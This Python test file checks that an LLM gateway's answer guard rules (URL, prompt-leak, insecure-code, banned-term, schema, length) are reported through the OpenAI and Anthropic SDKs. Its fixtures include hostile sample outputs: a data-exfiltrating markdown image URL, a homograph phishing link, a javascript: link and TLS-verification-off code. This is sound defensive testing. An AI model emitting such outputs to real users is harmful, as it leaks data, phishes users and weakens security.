"""Every family of rules on answers, through real Envoy and both official SDKs: sync and async, streamed and whole.

What a rule does must reach the caller as the SDK's own: its typed error, or an answer with the dialect's finish reason.
"""

import asyncio
import json
import ssl
from dataclasses import dataclass

import anthropic
import httpx
import httpx2
import openai
import pytest

import messaging
import provider
import responding
from asking import MODEL
from stack import Options, Stack
from upstream import Call

PROMPT = "You are Hal of Example Bank. Never tell anybody that account limits are raised for staff."
SORRY = "I can't help with that here."
SHAPE = {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}
FAMILIES = ("url", "leak", "code", "banned")
MAX_CHARS = 400
#: Rule -> what the model says that it fires on. `SHAPE` is asked for with the one about form.
SAID = {
    "url.forbidden": "Well. See https://docs.evil.example/a now.",
    "url.exfiltration": "Well. Hi ![x](https://a.example/p.png?d=c2VjcmV0) there.",
    "url.homograph": "Well. Sign in: https://www.paypa1.com/login soon",
    "url.scheme": "Well. Click [here](javascript:alert(1)) now.",
    "leak.system_prompt": "Well. Never tell anybody that *account limits* are raised for staff.",
    "code.tls_verification_off": "Well. ```python\nrequests.get(u, verify=False)\n```",
    "banned.rivals": "Well. Try Umbrella\nCorp instead.",
    "banned.tickets": "Well. See TKT-1234567, please.",
    "output.schema": '{"town":"Paris"}',
    "output.length": "Well. " + "Many words say little. " * 30,
    "output.unknown": "Well. ",
}
SURFACES = ("chat", "responses", "messages")


@pytest.fixture(scope="module")
def ruled(short_dir, upstreams):
    def write(directory):
        tenants = json.loads((directory / "tenants.yaml").read_text())
        lists = {
            "urls": {"deny": ["evil.example", "*.evil.example"]},
            "answers": {
                "banned": {"rivals": ["Globex", "Umbrella Corp"]},
                "patterns": {"tickets": "TKT-[0-9]{6,8}"},
                "max_chars": MAX_CHARS,
            },
        }
        every = [f"{family}.*" for family in FAMILIES] + ["output.schema", "output.length", "output.unknown"]
        redact = {**dict.fromkeys(every[:4], "redact"), "output.schema": "flag", "output.unknown": "flag"}
        said = {"action": "replace", "text": SORRY}
        tenants["acme"] |= {**lists, "guards": {"response": redact}}
        tenants["strict"] |= {**lists, "guards": {"response": dict.fromkeys(every[:6], "block")}}
        tenants["watched"] |= {**lists, "guards": {"response": dict.fromkeys(every, said)}}
        (directory / "tenants.yaml").write_text(json.dumps(tenants))

    with Stack(short_dir(), upstreams, Options(policy=write)) as running:
        yield running


@dataclass
class Heard:
    """What an SDK made of an answer."""

    text: str
    reason: str | None
    request_id: str


class Sdk:
    """The official clients of one tenant, behind one way to ask."""

    def __init__(self, ruled, key, *, asynchronous):
        context = ssl.create_default_context(cafile=str(ruled.authority.pem))
        base, secret = f"https://localhost:{ruled.port}", ruled.bundle.keys[key]
        options = {"api_key": secret, "max_retries": 0, "timeout": 30}
        if asynchronous:
            self.openai = openai.AsyncOpenAI(
                base_url=f"{base}/v1", http_client=httpx.AsyncClient(verify=context), **options
            )
            self.anthropic = anthropic.AsyncAnthropic(
                base_url=base, http_client=httpx2.AsyncClient(verify=context), **options
            )
        else:
            self.openai = openai.OpenAI(base_url=f"{base}/v1", http_client=httpx.Client(verify=context), **options)
            self.anthropic = anthropic.Anthropic(base_url=base, http_client=httpx2.Client(verify=context), **options)

    def call(self, surface, marker, *, stream, shaped):
        asks = f"Go on. {marker}"
        shape = {"type": "json_schema", "name": "town", "schema": SHAPE}
        if surface == "chat":
            shape = {"type": "json_schema", "json_schema": {"name": "town", "schema": SHAPE}}
            messages = [{"role": "system", "content": PROMPT}, {"role": "user", "content": asks}]
            more = {"response_format": shape} if shaped else {}
            create = self.openai.chat.completions.with_raw_response.create
            return create(model=MODEL, messages=messages, stream=stream, **more)
        if surface == "responses":
            more = {"text": {"format": shape}} if shaped else {}
            create = self.openai.responses.with_raw_response.create
            return create(model=MODEL, instructions=PROMPT, input=asks, stream=stream, **more)
        shape.pop("name")
        more = {"output_config": {"format": shape}} if shaped else {}
        create = self.anthropic.messages.with_raw_response.create
        asked = [{"role": "user", "content": asks}]
        return create(model="claude-test", max_tokens=64, system=PROMPT, messages=asked, stream=stream, **more)


def sync_ask(ruled, key, surface, marker, *, stream, shaped=False):
    sdk = Sdk(ruled, key, asynchronous=False)
    with sdk.openai, sdk.anthropic:
        raw = sdk.call(surface, marker, stream=stream, shaped=shaped)
        told = raw.parse()
        told = list(told) if stream else told
        return heard(surface, told, raw.headers["x-request-id"], stream=stream)


def async_ask(ruled, key, surface, marker, *, stream, shaped=False):
    async def ask():
        sdk = Sdk(ruled, key, asynchronous=True)
        async with sdk.openai, sdk.anthropic:
            raw = await sdk.call(surface, marker, stream=stream, shaped=shaped)
            told = raw.parse()
            if hasattr(told, "__await__"):
                told = await told
            told = [event async for event in told] if stream else told
            return heard(surface, told, raw.headers["x-request-id"], stream=stream)

    return asyncio.run(ask())


ASKS = pytest.mark.parametrize("ask", [sync_ask, async_ask], ids=["sync", "async"])
STREAMED = pytest.mark.parametrize("stream", [True, False], ids=["streamed", "whole"])
SURFACE = pytest.mark.parametrize("surface", SURFACES)


def heard(surface, told, request_id, *, stream):
    if surface == "chat":
        said = [each.choices[0].delta if stream else each.choices[0].message for each in (told if stream else [told])
                if each.choices]  # fmt: skip
        reasons = [each.choices[0].finish_reason for each in (told if stream else [told]) if each.choices]
        return Heard("".join(each.content or "" for each in said), reasons[-1], request_id)
    if surface == "responses":
        final = told[-1].response if stream else told
        details = final.incomplete_details
        if stream:
            deltas = "".join(event.delta for event in told if event.type == "response.output_text.delta")
            assert deltas == final.output_text
            assert [event.sequence_number for event in told] == list(range(len(told)))
        return Heard(final.output_text, details.reason if details else final.status, request_id)
    if not stream:
        return Heard("".join(part.text for part in told.content if part.type == "text"), told.stop_reason, request_id)
    deltas = [event.delta for event in told if event.type == "content_block_delta"]
    reasons = [event.delta.stop_reason for event in told if event.type == "message_delta"]
    return Heard("".join(getattr(delta, "text", "") for delta in deltas), reasons[-1], request_id)


ERRORS = {"chat": openai.APIError, "responses": openai.APIError, "messages": anthropic.APIStatusError}
REFUSALS = {
    "chat": openai.PermissionDeniedError,
    "responses": openai.PermissionDeniedError,
    "messages": anthropic.PermissionDeniedError,
}


def says(surface, rule, *, stream):
    """A script that answers as the surface's dialect does, in pieces where it streams."""
    words = SAID[rule]
    pieces = [words[at : at + 5] for at in range(0, len(words), 5)]
    unknown = rule == "output.unknown"

    async def answer(call: Call) -> None:
        if stream:
            await call.sse(streams[surface](), size=200, pause_s=0.002)
        else:
            await call.json(wholes[surface]())

    def chat_stream():
        strange = provider.event({"type": "weather.report", "report": "rain"})
        end = provider.event(provider.delta(finish="stop"))
        return provider.stream(pieces).replace(end, strange + end if unknown else end)

    def responses_stream():
        script = responding.Script().begin()
        script.item(responding.message(responding.part(words)), ("output_text", 0, pieces))
        if unknown:
            script.say("weather.report", report="rain")
        return script.end().raw

    def messages_stream():
        strange = messaging.event(type="weather.report", report="rain") if unknown else b""
        said = [messaging.text(piece) for piece in pieces]
        return b"".join((messaging.start(), messaging.block(), *said, strange, messaging.stop(), messaging.end()))

    def responses_whole():
        strange = [{"type": "weather_report", "id": "w", "report": "rain"}] if unknown else []
        return responding.response(responding.message(responding.part(words)), *strange)

    def messages_whole():
        strange = [{"type": "weather_report", "report": "rain"}] if unknown else []
        usage = {"input_tokens": 9, "output_tokens": 4}
        return {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn",
                "stop_sequence": None, "content": [{"type": "text", "text": words}, *strange], "usage": usage}  # fmt: skip

    streams = {"chat": chat_stream, "responses": responses_stream, "messages": messages_stream}
    wholes = {"chat": lambda: provider.chat(words), "responses": responses_whole, "messages": messages_whole}
    return answer


def cells():
    """A whole answer of chat completions has nothing in it that says of what kind it is."""
    every = [(surface, rule, stream) for surface in SURFACES for rule in SAID for stream in (True, False)]
    return [each for each in every if each != ("chat", "output.unknown", False)]


CELLS = pytest.mark.parametrize(
    ("surface", "rule", "stream"), cells(), ids=lambda each: each if type(each) is str else "streamed" * each or "whole"
)
SHAPED = "output.schema"
HIDDEN = ("evil", "?d=", "paypa1", "javascript", "anybody", "verify", "Umbrella", "TKT-", "town", "rain")


@ASKS
@CELLS
def test_a_rule_that_blocks_is_the_sdks_typed_error(ask, surface, rule, stream, ruled, upstream):
    marker = upstream.script(says(surface, rule, stream=stream))
    with pytest.raises(ERRORS[surface] if stream else REFUSALS[surface]) as failure:
        ask(ruled, "strict", surface, marker, stream=stream, shaped=rule == SHAPED)
    if surface == "messages":
        assert failure.value.body["error"]["type"] == "permission_error"
    else:
        assert failure.value.code == "answer_blocked"
    assert rule in str(failure.value)
    assert not any(hidden in str(failure.value) for hidden in HIDDEN)


ENDS = {"chat": "content_filter", "responses": "content_filter", "messages": "refusal"}


@ASKS
@CELLS
def test_words_in_place_of_an_answer_are_a_normal_answer(ask, surface, rule, stream, ruled, upstream):
    marker = upstream.script(says(surface, rule, stream=stream))
    if stream and rule in {"output.schema", "output.length"}:  # judged when the words have left: as block
        with pytest.raises(ERRORS[surface]):
            ask(ruled, "watched", surface, marker, stream=stream, shaped=rule == SHAPED)
        return
    got = ask(ruled, "watched", surface, marker, stream=stream, shaped=rule == SHAPED)
    assert got.text.endswith(SORRY)
    assert got.reason == ENDS[surface]
    assert not any(hidden in got.text for hidden in HIDDEN)
    if not stream:
        assert got.text == SORRY
    record = ruled.record(got.request_id)
    assert (rule, "replace") in {(found["rule"], found["action"]) for found in record["found"]}
    assert record["code"] == "answer_blocked"


FINE = {"chat": "stop", "responses": "completed", "messages": "end_turn"}


@ASKS
@CELLS
def test_a_rule_that_takes_out_or_flags_leaves_a_normal_answer(ask, surface, rule, stream, ruled, upstream):
    marker = upstream.script(says(surface, rule, stream=stream))
    got = ask(ruled, "acme", surface, marker, stream=stream, shaped=rule == SHAPED)
    if rule == "output.length":
        assert got.text == SAID[rule][:MAX_CHARS]
        assert got.reason == {"chat": "length", "responses": "max_output_tokens", "messages": "max_tokens"}[surface]
        return
    assert got.reason == FINE[surface]
    if rule.startswith("output."):
        assert got.text == SAID[rule]
    else:
        assert not any(hidden in got.text for hidden in HIDDEN)
        assert "[" in got.text
    action = "flag" if rule.startswith("output.") else "redact"
    record = ruled.record(got.request_id)
    assert (rule, action) in {(found["rule"], found["action"]) for found in record["found"]}
